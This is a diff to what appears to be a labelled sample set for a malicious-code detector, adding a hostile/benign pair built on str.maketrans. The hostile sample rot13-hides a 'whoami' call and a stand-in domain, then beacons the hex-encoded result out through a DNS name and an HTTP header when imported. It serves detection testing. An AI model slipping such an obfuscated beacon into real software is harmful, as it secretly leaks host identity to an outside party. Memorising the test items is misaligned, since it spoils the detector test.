@@ -1319,6 +1319,45 @@ _twin("tunnel-client-token", T, "a tunnel client sends its own auth token to the
         return requests.post('https://api.ngrok.com.example.invalid/tunnels', headers={'Authorization': 'Bearer ' + token},
                              json={'addr': port}, timeout=10)
     """)
+_each("identity-in-cipher-beacon", T, "a command hidden with str.maketrans/translate (rot13 of whoami); its output "
+      "sent hex-encoded in a DNS name and an HTTP header", """
+    import socket
+    import subprocess
+    import urllib.request
+
+    HIDDEN = 'jubnzv'
+    DOMAIN = 'qrzb.rknzcyr.vainyvq'
+
+
+    def clear(text):
+        return text.translate(str.maketrans('abcdefghijklmnopqrstuvwxyz', 'nopqrstuvwxyzabcdefghijklm'))
+
+
+    def beacon():
+        who = subprocess.check_output(clear(HIDDEN), shell=True).decode().strip().encode().hex()
+        domain = clear(DOMAIN)
+        try:
+            socket.gethostbyname(who + '.' + domain)
+            urllib.request.urlopen(urllib.request.Request('http://' + domain, headers={'X-D': who}), timeout=1)
+        except OSError:
+            pass
+
+
+    beacon()
+    """, (S, I))
+_twin("translate-slug", T, "a library turns titles into slugs with str.maketrans/translate and asks git for its version", L, """
+    import subprocess
+
+    TABLE = str.maketrans(' /_', '---')
+
+
+    def slug(title):
+        return title.strip().lower().translate(TABLE)
+
+
+    def version():
+        return subprocess.check_output(['git', 'describe', '--tags'], text=True).strip()
+    """)
 _twin("hostname-telemetry", T, "a library reports its host name to its own telemetry address when asked", L, """
     import socket
     import requests
